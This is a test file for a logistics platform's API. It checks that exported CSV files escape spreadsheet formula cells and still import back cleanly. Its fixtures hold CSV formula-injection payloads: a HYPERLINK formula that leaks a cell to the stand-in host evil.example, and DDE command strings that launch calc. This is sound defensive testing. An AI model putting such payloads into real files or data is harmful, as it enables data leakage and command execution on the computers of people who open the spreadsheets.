import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../src/platform/csv.js';
import type { Database, TenantRecord } from '../src/platform/db/index.js';
import { createTestApp, type TestApp } from './support/app.js';
import { createTestTenant, openTestDatabase, testDbKind } from './support/db.js';

/** A cell a spreadsheet would run as a formula (a plain number such as -2.5 is not one). */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);
const cellsOf = (csv: string): string[] => parseCsv(csv).flatMap((r) => r.fields);

describe(`CSV exports against formula injection on ${testDbKind()}`, () => {
  let database: Database;
  let t: TestApp;
  let source: TenantRecord;
  let target: TenantRecord;
  const tokens: Record<string, string> = {};

  const call = (tenant: TenantRecord, method: 'GET' | 'POST', url: string, payload?: unknown, contentType?: string) =>
    t.app.inject({
      method,
      url,
      headers: { authorization: `Bearer ${tokens[tenant.slug]}`, ...(contentType ? { 'content-type': contentType } : {}) },
      ...(payload !== undefined ? { payload: payload as string } : {}),
    });

  const seedTypes = async (tenant: TenantRecord) => {
    const q = await call(tenant, 'POST', '/api/v1/qualifications', { code: 'CDL-A', name: 'CDL A' });
    expect(q.statusCode).toBe(201);
    const type = await call(tenant, 'POST', '/api/v1/equipment-types', {
      code: 'TRUCK',
      name: 'Truck',
      requiredQualificationIds: [q.json<{ id: string }>().id],
    });
    expect(type.statusCode).toBe(201);
    return type.json<{ id: string }>().id;
  };

  beforeAll(async () => {
    database = await openTestDatabase();
    t = await createTestApp(database);
    source = await createTestTenant(database, 'csvsrc');
    target = await createTestTenant(database, 'csvdst');
    tokens[source.slug] = await t.identity.token({
      roles: ['admin'],
      tenant: source.slug,
      name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    });
    tokens[target.slug] = await t.identity.token({ roles: ['admin'], tenant: target.slug });
    const typeId = await seedTypes(source);
    await seedTypes(target);
    const created = [
      await call(source, 'POST', '/api/v1/sites', {
        name: '=HYPERLINK("http://evil.example","Click")',
        address: '+1 Formula Road',
        position: { lat: 53.48, lng: -2.24 },
        contactName: '@SUM(A1:A9)',
        contactPhone: '+44 161 555 0100',
        notes: "-2+3+cmd|' /C calc'!A0",
      }),
      await call(source, 'POST', '/api/v1/sites', { name: "'=already quoted", address: 'Plain Street 1' }),
      await call(source, 'POST', '/api/v1/drivers', { name: '@Attacker', employeeNo: '=1+1', phone: '+44 7700 900123' }),
      await call(source, 'POST', '/api/v1/equipment', {
        assetTag: 'EX1',
        name: "=cmd|' /C calc'!A0",
        equipmentTypeId: typeId,
        home: { lat: 53.4, lng: -2.3 },
      }),
    ];
    for (const response of created) expect(response.statusCode, response.body).toBe(201);
  });
  afterAll(async () => {
    await t.app.close();
    await database.close();
  });

  it('escapes every formula cell in the resource exports, and importing an export gives back the original values', async () => {
    for (const kind of ['sites', 'drivers', 'equipment']) {
      const exported = await call(source, 'GET', `/api/v1/exports/${kind}`);
      expect(exported.statusCode).toBe(200);
      const cells = cellsOf(exported.body);
      expect(cells.filter(isFormula), kind).toEqual([]);
      expect(
        cells.some((c) => c.startsWith("'")),
        kind,
      ).toBe(true);

      const imported = await call(target, 'POST', `/api/v1/imports/${kind}`, exported.body, 'text/csv');
      expect(imported.statusCode, imported.body).toBe(200);
      const again = await call(target, 'GET', `/api/v1/exports/${kind}`);
      expect(again.body).toBe(exported.body);
    }
    const sites = (await call(target, 'GET', '/api/v1/sites?limit=50')).json<{
      items: Array<{ name: string; address: string; contactName: string | null; contactPhone: string | null; notes: string | null }>;
    }>();
    expect(sites.items.map((s) => s.name).sort()).toEqual(["'=already quoted", '=HYPERLINK("http://evil.example","Click")']);
    expect(sites.items.find((s) => s.name.startsWith('=HYPERLINK'))).toMatchObject({
      address: '+1 Formula Road',
      contactName: '@SUM(A1:A9)',
      contactPhone: '+44 161 555 0100',
      notes: "-2+3+cmd|' /C calc'!A0",
    });
    const drivers = (await call(target, 'GET', '/api/v1/drivers?limit=50')).json<{
      items: Array<{ name: string; employeeNo: string | null }>;
    }>();
    expect(drivers.items).toEqual([expect.objectContaining({ name: '@Attacker', employeeNo: '=1+1' })]);
    const equipment = (await call(target, 'GET', '/api/v1/equipment?limit=50')).json<{
      items: Array<{ assetTag: string; name: string }>;
    }>();
    expect(equipment.items).toEqual([expect.objectContaining({ assetTag: 'EX1', name: "=cmd|' /C calc'!A0" })]);
  });

  it('escapes formula cells in the analytics CSV', async () => {
    const from = encodeURIComponent(new Date(Date.now() - 86_400_000).toISOString());
    const to = encodeURIComponent(new Date(Date.now() + 60_000).toISOString());
    const csv = await call(source, 'GET', `/api/v1/analytics?from=${from}&to=${to}&format=csv`);
    expect(csv.statusCode).toBe(200);
    const cells = cellsOf(csv.body);
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells.some((c) => c.startsWith("'=cmd"))).toBe(true);
  });

  it('escapes formula cells in the audit export', async () => {
    const csv = await call(source, 'GET', '/api/v1/audit/export?format=csv');
    expect(csv.statusCode).toBe(200);
    const cells = cellsOf(csv.body);
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells.some((c) => c.startsWith("'=HYPERLINK"))).toBe(true);
  });
});
